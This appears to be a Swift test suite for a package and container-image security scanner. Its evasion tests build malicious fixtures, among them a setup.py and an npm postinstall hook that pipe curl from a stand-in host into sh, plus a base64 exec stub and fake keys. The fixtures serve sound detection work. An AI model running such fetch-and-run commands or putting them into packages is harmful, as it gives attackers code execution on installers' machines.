import CordonHeuristics
@testable import CordonScanner
import CordonVulnDB
import Foundation
import Testing

enum ScanFixture {
    static let dir: String = {
        let d = NSTemporaryDirectory() + "cordon-scan-\(getpid())"
        try? FileManager.default.createDirectory(atPath: d, withIntermediateDirectories: true)
        return d
    }()
    static let repo = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().path
    static let shared = URL(fileURLWithPath: repo).deletingLastPathComponent().appendingPathComponent("shared/data").path

    @discardableResult
    static func python(_ script: String, args: [String] = []) throws -> String {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        p.arguments = ["-c", "import io, os, sys, tarfile, zipfile, json\n" + script] + args
        let out = Pipe(), err = Pipe()
        p.standardOutput = out
        p.standardError = err
        try p.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        let problem = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        p.waitUntilExit()
        guard p.terminationStatus == 0 else { throw ScanFailure(description: "python fixture failed: \(problem)") }
        return String(decoding: data, as: UTF8.self)
    }

    static func wheel(name: String, version: String, files: [String: String] = [:]) throws -> String {
        // A directory of its own: parameterised tests run in parallel.
        let unique = "\(dir)/\(UUID().uuidString.prefix(8))"
        try FileManager.default.createDirectory(atPath: unique, withIntermediateDirectories: true)
        let out = "\(unique)/\(name)-\(version)-py3-none-any.whl"
        let extra = files.map { "z.writestr(\(quote($0.key)), \(quote($0.value)))" }.joined(separator: "\n ")
        try python("""
            with zipfile.ZipFile(sys.argv[1], 'w') as z:
             z.writestr('\(name)-\(version).dist-info/METADATA', 'Metadata-Version: 2.1\\nName: \(name)\\nVersion: \(version)\\n\\nbody')
             z.writestr('\(name)-\(version).dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
             z.writestr('\(name)/__init__.py', 'x = 1\\n')
             \(extra.isEmpty ? "pass" : extra)
            """, args: [out])
        return out
    }

    static func quote(_ s: String) -> String { "'" + s.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "'", with: "\\'").replacingOccurrences(of: "\n", with: "\\n") + "'" }
}

struct InventoryTests {
    @Test func wheelSdistNpmAndSitePackages() throws {
        let whl = try ScanFixture.wheel(name: "demo", version: "1.2.3")
        #expect(try Inventory.packages(at: whl).map { "\($0.ecosystem.rawValue) \($0.name) \($0.version) \($0.pureWheel)" } == ["PyPI demo 1.2.3 true"])

        let sdist = "\(ScanFixture.dir)/demo-2.0.tar.gz"
        try ScanFixture.python("""
            with tarfile.open(sys.argv[1], 'w:gz') as t:
             for name, data in [('demo-2.0/PKG-INFO', b'Metadata-Version: 1.1\\nName: Demo\\nVersion: 2.0\\n'), ('demo-2.0/setup.py', b'from setuptools import setup\\nsetup(name="Demo")\\n')]:
              i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
            """, args: [sdist])
        let s = try #require(try Inventory.packages(at: sdist).first)
        #expect("\(s.name) \(s.version)" == "Demo 2.0")
        #expect(s.files.map(\.path).sorted() == ["PKG-INFO", "setup.py"])

        let tgz = "\(ScanFixture.dir)/left-pad-1.3.0.tgz"
        try ScanFixture.python("""
            with tarfile.open(sys.argv[1], 'w:gz') as t:
             data = json.dumps({'name': 'left-pad', 'version': '1.3.0'}).encode()
             i = tarfile.TarInfo('package/package.json'); i.size = len(data); t.addfile(i, io.BytesIO(data))
            """, args: [tgz])
        #expect(try Inventory.packages(at: tgz).map { "\($0.ecosystem.rawValue) \($0.name) \($0.version)" } == ["npm left-pad 1.3.0"])

        let site = "\(ScanFixture.dir)/site-packages"
        for (name, version) in [("requests", "2.19.0"), ("urllib3", "1.24.1")] {
            let meta = "\(site)/\(name)-\(version).dist-info"
            try FileManager.default.createDirectory(atPath: meta, withIntermediateDirectories: true)
            try "Metadata-Version: 2.1\nName: \(name)\nVersion: \(version)\n".write(toFile: "\(meta)/METADATA", atomically: true, encoding: .utf8)
        }
        #expect(Set(try Inventory.packages(at: site).map { "\($0.name) \($0.version)" }) == ["requests 2.19.0", "urllib3 1.24.1"])
    }

    @Test func notAPackageIsAClearError() throws {
        let path = "\(ScanFixture.dir)/plain.zip"
        try ScanFixture.python("with zipfile.ZipFile(sys.argv[1], 'w') as z: z.writestr('readme.txt', 'hi')", args: [path])
        #expect(throws: ScanFailure.self) { try Inventory.packages(at: path) }
    }
}

@Suite(.enabled(if: FileManager.default.fileExists(atPath: "\(ScanFixture.shared)/pypa-advisory-database"), "needs ../shared/data"))
struct ScanReportTests {
    static let database: VulnDatabase = {
        let path = "\(ScanFixture.dir)/vulndb.sqlite"
        let db = try! VulnDatabase(path: path)
        _ = try! db.importRecords(from: ["\(ScanFixture.shared)/pypa-advisory-database"])
        return db
    }()

    @Test func oldRequestsReportsItsAdvisories() throws {
        let whl = try ScanFixture.wheel(name: "requests", version: "2.19.0")
        let report = try Scanner.scan([whl], database: Self.database)
        let ids = report.packages.first?.vulnerabilities.map(\.id) ?? []
        #expect(ids.contains("PYSEC-2018-28"), "\(ids)")
        #expect(report.worstSeverity == .high)
    }

    @Test(arguments: [("sarif", "sarif-schema-2.1.0.json"), ("cyclonedx", "bom-1.5.schema.json")])
    func outputValidatesAgainstTheOfficialSchema(_ c: (String, String)) throws {
        let whl = try ScanFixture.wheel(name: "requests", version: "2.19.0",
                                        files: ["requests/evil.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"])
        let report = try Scanner.scan([whl], database: Self.database)
        #expect(!report.packages[0].findings.isEmpty, "the fixture should produce a finding for the SARIF result list")
        let text = try ReportFormat(rawValue: c.0)!.render(report, toolVersion: "0.1.0")
        let out = "\(ScanFixture.dir)/report-\(UUID().uuidString.prefix(8)).\(c.0).json"
        try text.write(toFile: out, atomically: true, encoding: .utf8)
        let verdict = try ScanFixture.python("import runpy\nsys.argv = sys.argv[1:]\nrunpy.run_path(sys.argv[0], run_name='__main__')",
                                             args: ["\(ScanFixture.repo)/Tests/CordonScannerTests/validate_schema.py",
                                                    "\(ScanFixture.shared)/schemas", c.1, out])
        #expect(verdict.contains("valid"))
    }
}

/// Real packages from PyPI (downloaded once into .build/test-packages): none is flagged at high
/// or above, and the old requests reports its advisories. Needs PyPI, which CI reaches.
@Suite(.enabled(if: FileManager.default.fileExists(atPath: "\(ScanFixture.shared)/pypa-advisory-database"), "needs ../shared/data"),
       .serialized)
struct RealPackageTests {
    static let packages = ["requests==2.19.0", "requests==2.31.0", "urllib3==2.2.1", "django==4.2.11", "flask==3.0.2",
                           "setuptools==69.2.0", "six==1.16.0", "werkzeug==3.0.1", "jinja2==3.1.3", "idna==3.6", "toml==0.10.2"]
    static let cache = "\(ScanFixture.repo)/.build/test-packages"

    static func download() throws -> [String] {
        try FileManager.default.createDirectory(atPath: cache, withIntermediateDirectories: true)
        for spec in packages {
            let name = spec.replacingOccurrences(of: "==", with: "-").lowercased()
            let have = (try FileManager.default.contentsOfDirectory(atPath: cache)).contains { $0.lowercased().hasPrefix(name) }
            if have { continue }
            try ScanFixture.python("import subprocess\nsubprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--no-deps', '-d', sys.argv[1], sys.argv[2]], check=True)",
                                   args: [cache, spec])
        }
        return try FileManager.default.contentsOfDirectory(atPath: cache).sorted().map { "\(cache)/\($0)" }
    }

    @Test func noFalseAlarmAndOldRequestsIsReported() throws {
        let files = try Self.download()
        #expect(files.count >= Self.packages.count)
        let report = try Scanner.scan(files, database: ScanReportTests.database)
        let alarms = report.packages.flatMap { p in p.findings.filter { $0.severity >= .high }.map { "\(p.name): \($0.rule) \($0.file):\($0.startLine)" } }
        #expect(alarms.isEmpty, "\(alarms)")
        let old = report.packages.first { $0.name.lowercased() == "requests" && $0.version == "2.19.0" }
        #expect(old?.vulnerabilities.map(\.id).contains("PYSEC-2018-28") == true)
        let new = report.packages.first { $0.name.lowercased() == "requests" && $0.version == "2.31.0" }
        #expect(new?.vulnerabilities.isEmpty == true)
    }
}

/// The JSON the inventory and image reader take from untrusted files (CordonJSON, strict but
/// for package.json, which is read as npm reads it).
struct ManifestJSONTests {
    @Test func npmIdentity() throws {
        #expect(try Inventory.npmIdentity([0xEF, 0xBB, 0xBF] + Array(#"{"name":"a","version":"1.0.0"}"#.utf8), source: "p") == ("a", "1.0.0"))
        #expect(try Inventory.npmIdentity(Array(#"{"name":"a","version":"1","name":"b","private":true}"#.utf8), source: "p") == ("b", "1"))
        // A number beyond a Double's range is Infinity to npm (JSON.parse), as it was to Foundation's
        // decoder here before: the package keeps its identity.
        #expect(try Inventory.npmIdentity(Array(#"{"name":"a","version":"1.0.0","n":1e400}"#.utf8), source: "p") == ("a", "1.0.0"))
        for bad in [#"{"name":"a"}"#, #"{"name":5,"version":"1"}"#, #"{"name":"a","version":null}"#, #"[{"name":"a","version":"1"}]"#,
                    #"{"name":"a","version":"1",}"#, "", #"{"name":"a","version":"1"} x"#] {
            #expect(throws: ScanFailure.self, "\(bad)") { try Inventory.npmIdentity(Array(bad.utf8), source: "p") }
        }
    }

    @Test func dockerManifest() throws {
        #expect(try ContainerImage.dockerLayers(Array(#"[{"Config":"c.json","Layers":["a/layer.tar","b/layer.tar"]},{"Layers":[]}]"#.utf8)) == [["a/layer.tar", "b/layer.tar"], []])
        for bad in ["[]", "{}", #"[{"Layers":["a"]},{}]"#, #"[{"Layers":[1]}]"#, #"[{"Layers":null}]"#, #"[{"Layers":["a"]}"#] {
            #expect(try ContainerImage.dockerLayers(Array(bad.utf8)) == nil, "\(bad)")
        }
        // What docker load reads is read: a huge number in a member nobody uses is no reason to
        // look elsewhere for the layers.
        #expect(try ContainerImage.dockerLayers(Array(#"[{"Layers":["a/layer.tar"],"x":1e400}]"#.utf8)) == [["a/layer.tar"]])
        // Past the caps: an error, never "not a docker manifest" (then the OCI index, which may
        // name other layers, would be scanned instead).
        let padded = "[{\"Layers\":[\"a/layer.tar\"],\"RepoTags\":[" + Array(repeating: #""t""#, count: 100_001).joined(separator: ",") + "]}]"
        #expect(throws: ScanFailure.self) { try ContainerImage.dockerLayers(Array(padded.utf8)) }
        #expect(throws: ScanFailure.self) { try ContainerImage.dockerLayers(Array(#"[{"Layers":["a/layer.tar"]}]"#.utf8) + Array(repeating: 0x20, count: 4 << 20)) }
    }

    @Test func ociDescriptors() throws {
        let manifest = Array(#"{"schemaVersion":2,"layers":[{"digest":"sha256:aa","mediaType":"x"},{"digest":"sha256:bb"}]}"#.utf8)
        #expect(try ContainerImage.digests(manifest, "layers", "m") == ["sha256:aa", "sha256:bb"])
        for (bad, message) in [("{\"layers\":[{\"mediaType\":\"x\"}]}", "OCI layout: m: layers[0] has no digest"),
                               ("{\"layers\":[{\"digest\":\"d\",\"mediaType\":1}]}", "OCI layout: m: layers[0].mediaType is not a string"),
                               ("{\"layer\":[]}", "OCI layout: m has no \"layers\" array"),
                               ("{\"layers\":[]", "OCI layout: m is not valid JSON: at byte 12: unexpected end of input")] {
            let error = #expect(throws: ScanFailure.self) { try ContainerImage.digests(Array(bad.utf8), "layers", "m") }
            #expect(error?.description == message)
        }
    }
}

/// Container images: layers in order, whiteouts honoured, findings attributed to the layer.
struct ImageTests {
    static let layersScript = """
        def tar_bytes(entries):
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode='w') as t:
                for name, data, mode in entries:
                    i = tarfile.TarInfo(name); i.size = len(data); i.mode = mode
                    t.addfile(i, io.BytesIO(data))
            return buf.getvalue()
        status = b'Package: bash\\nStatus: install ok installed\\nVersion: 5.2.15-2\\n\\nPackage: ghost\\nStatus: deinstall ok config-files\\nVersion: 1.0\\n'
        layer0 = tar_bytes([('var/lib/dpkg/status', status, 0o644), ('usr/bin/su', b'\\x7fELF', 0o4755),
                            ('root/.ssh/id_rsa', b'-----BEGIN OPENSSH PRIVATE KEY-----\\nabc\\n', 0o600),
                            ('etc/app.env', b'AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP\\n', 0o644),
                            ('opt/data', b'x', 0o666), ('tmp/scratch', b'x', 0o666)])
        layer1 = tar_bytes([('root/.ssh/.wh.id_rsa', b'', 0o644), ('opt/.wh..wh..opq', b'', 0o644),
                            ('usr/lib/python3/dist-packages/requests-2.19.0.dist-info/METADATA', b'Name: requests\\nVersion: 2.19.0\\n', 0o644)])
        """

    func check(_ report: ScanReport, _ target: String) throws {
        let image = try #require(report.packages.first { $0.ecosystem == "image" })
        let found = Set(image.findings.map { "\($0.rule) \($0.file)" })
        #expect(found == ["setuid-file layer0:usr/bin/su", "private-key layer0:root/.ssh/id_rsa", "cloud-token layer0:etc/app.env"], "\(found)")
        #expect(image.findings.first { $0.rule == "private-key" }?.message.contains("deleted or replaced by a later layer") == true)
        let inventory = Set(report.packages.filter { $0.ecosystem != "image" }.map { "\($0.ecosystem) \($0.name) \($0.version)" })
        #expect(inventory == ["Debian bash 5.2.15-2", "PyPI requests 2.19.0"], "\(inventory)")
        #expect(report.packages.first { $0.name == "requests" }?.source.contains("layer1") == true)
    }

    @Test func dockerSaveTarball() throws {
        let out = "\(ScanFixture.dir)/image-\(UUID().uuidString.prefix(6)).tar"
        try ScanFixture.python(Self.layersScript + "\n" + """
            with tarfile.open(sys.argv[1], 'w') as t:
                for name, data in [('l0/layer.tar', layer0), ('l1/layer.tar', layer1),
                                   ('manifest.json', json.dumps([{'Layers': ['l0/layer.tar', 'l1/layer.tar']}]).encode())]:
                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
            """, args: [out])
        try check(try Scanner.scan([out], database: nil), out)
    }

    /// A docker save tarball that also carries an OCI layout naming other layers: manifest.json
    /// decides (as for `docker load`), even when it holds a number beyond a Double's range, and
    /// one past the parser's caps is an error rather than a reason to scan the OCI index's layers.
    @Test func manifestJSONDecidesOverTheOCIIndex() throws {
        for (manifest, readable) in [(#"[{"Layers": ["l0/layer.tar", "l1/layer.tar"], "x": 1e400}]"#, true),
                                     ("[{\"Layers\": [\"l0/layer.tar\", \"l1/layer.tar\"], \"RepoTags\": [" + Array(repeating: #""t""#, count: 100_001).joined(separator: ",") + "]}]", false)] {
            let out = "\(ScanFixture.dir)/image-oci-\(UUID().uuidString.prefix(6)).tar"
            let manifestFile = out + ".manifest.json"
            try manifest.write(toFile: manifestFile, atomically: true, encoding: .utf8)
            try ScanFixture.python(Self.layersScript + "\n" + """
                import hashlib
                benign = tar_bytes([('etc/hostname', b'x\\n', 0o644)])
                d = hashlib.sha256(benign).hexdigest()
                m = json.dumps({'layers': [{'digest': 'sha256:' + d}]}).encode()
                md = hashlib.sha256(m).hexdigest()
                with tarfile.open(sys.argv[1], 'w') as t:
                    for name, data in [('l0/layer.tar', layer0), ('l1/layer.tar', layer1), ('manifest.json', open(sys.argv[2], 'rb').read()),
                                       ('blobs/sha256/' + d, benign), ('blobs/sha256/' + md, m), ('oci-layout', b'{"imageLayoutVersion": "1.0.0"}'),
                                       ('index.json', json.dumps({'manifests': [{'digest': 'sha256:' + md}]}).encode())]:
                        i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
                """, args: [out, manifestFile])
            if readable {
                try check(try Scanner.scan([out], database: nil), out)
            } else {
                #expect(throws: ScanFailure.self) { try Scanner.scan([out], database: nil) }
            }
        }
    }

    @Test func ociLayoutDirectory() throws {
        let out = "\(ScanFixture.dir)/oci-\(UUID().uuidString.prefix(6))"
        try ScanFixture.python(Self.layersScript + "\n" + """
            import hashlib
            root = sys.argv[1]
            os.makedirs(root + '/blobs/sha256')
            def blob(data):
                d = hashlib.sha256(data).hexdigest()
                open(root + '/blobs/sha256/' + d, 'wb').write(data)
                return 'sha256:' + d
            manifest = json.dumps({'layers': [{'digest': blob(layer0)}, {'digest': blob(layer1)}]}).encode()
            open(root + '/index.json', 'w').write(json.dumps({'manifests': [{'digest': blob(manifest)}]}))
            open(root + '/oci-layout', 'w').write('{"imageLayoutVersion": "1.0.0"}')
            """, args: [out])
        try check(try Scanner.scan([out], database: nil), out)
    }
}

/// The image rules' look-alikes that must stay quiet.
struct ImageRuleNegativeTests {
    func image(_ files: [(String, String, UInt32)]) -> ContainerImage {
        var image = ContainerImage()
        for (path, content, mode) in files {
            let file = ContainerImage.File(path: path, layer: 0, mode: mode, kind: .file, bytes: Array(content.utf8))
            image.files[path] = file
            image.history.append(file)
        }
        return image
    }

    @Test func quietLookAlikes() {
        let findings = image([
            ("usr/bin/ls", "\u{7F}ELF", 0o755),                                              // executable, not setuid
            ("tmp/cache", "x", 0o666),                                                       // world-writable, but in /tmp
            ("etc/ssl/certs/ca.pem", "-----BEGIN CERTIFICATE-----\nMIIB\n", 0o644),          // a certificate
            ("etc/ssh/ssh_host_rsa_key.pub", "-----BEGIN PUBLIC KEY-----\n", 0o644),         // a public key
            ("etc/app.conf", "key_prefix = AKIA\nid = AKIA123\n", 0o644),                    // too short for an AWS key id
            ("root/.config/x.json", "{\"token\": \"ghp_short\"}", 0o600),                    // not a GitHub token's length
        ]).findings()
        #expect(findings.isEmpty, "\(findings.map { "\($0.rule) \($0.file)" })")
    }

    @Test func eachRuleFires() {
        let findings = image([
            ("usr/bin/passwd", "\u{7F}ELF", 0o4755),
            ("usr/bin/wall", "\u{7F}ELF", 0o2755),
            ("var/www/upload.php", "<?php", 0o666),
            ("home/dev/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n", 0o600),
            ("home/dev/.config/gh/hosts.yml", "oauth_token: ghp_" + String(repeating: "a", count: 36) + "\n", 0o600),
        ]).findings()
        #expect(Set(findings.map(\.rule)) == ["setuid-file", "world-writable", "private-key", "cloud-token"])
        #expect(findings.filter { $0.rule == "setuid-file" }.count == 2)
    }
}

/// Tricks from the adversarial review: each once produced a clean verdict or unbounded work.
struct ScannerEvasionTests {
    @Test func packageWithAManifestJSONIsStillAPackage() throws {
        let out = "\(ScanFixture.dir)/evil-\(UUID().uuidString.prefix(6)).tar"
        try ScanFixture.python("""
            with tarfile.open(sys.argv[1], 'w') as t:
                for name, data in [('evil-1.0/PKG-INFO', b'Name: evil\\nVersion: 1.0\\n'),
                                   ('evil-1.0/setup.py', b"import os\\nos.system('curl http://203.0.113.4/x | sh')\\nfrom setuptools import setup\\nsetup()\\n"),
                                   ('manifest.json', b'[{"Layers": []}]')]:
                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
            """, args: [out])
        let report = try Scanner.scan([out], database: nil)
        #expect(report.packages.map(\.ecosystem) == ["PyPI"])
        #expect(report.packages.first?.findings.contains { $0.severity == .critical } == true)
    }

    @Test func npmSecondTopFolderIsScanned() throws {
        let out = "\(ScanFixture.dir)/npm-\(UUID().uuidString.prefix(6)).tgz"
        try ScanFixture.python("""
            with tarfile.open(sys.argv[1], 'w:gz') as t:
                for name, data in [('package/package.json', b'{"name": "ok", "version": "1.0.0"}'),
                                   ('x/package.json', b'{"name": "ok", "version": "1.0.0", "scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}')]:
                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
            """, args: [out])
        let report = try Scanner.scan([out], database: nil)
        #expect(report.packages.first?.findings.contains { $0.rule == "npm-install-script" } == true, "\(report.packages.first?.findings ?? [])")
    }

    @Test func aLayerListedTwiceIsRefused() throws {
        let out = "\(ScanFixture.dir)/dup-\(UUID().uuidString.prefix(6)).tar"
        try ScanFixture.python("""
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode='w') as l:
                i = tarfile.TarInfo('etc/x'); i.size = 1; l.addfile(i, io.BytesIO(b'x'))
            layer = buf.getvalue()
            with tarfile.open(sys.argv[1], 'w') as t:
                for name, data in [('l/layer.tar', layer), ('manifest.json', json.dumps([{'Layers': ['l/layer.tar'] * 12}]).encode())]:
                    i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
            """, args: [out])
        #expect(throws: ScanFailure.self) { try Scanner.scan([out], database: nil) }
    }
}
